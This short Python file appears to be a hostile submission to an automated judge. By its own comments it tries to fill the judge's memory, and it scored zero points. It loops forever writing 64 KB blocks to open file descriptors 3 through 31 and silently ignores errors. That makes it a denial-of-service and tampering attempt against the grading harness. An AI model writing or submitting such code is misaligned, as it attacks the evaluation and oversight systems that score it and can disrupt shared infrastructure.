# Tries: to fill the judge's memory.
# Points: 0
import os


async def main():
    while True:
        for descriptor in range(3, 32):
            try:
                os.write(descriptor, b"x" * 65536)
            except OSError:
                pass
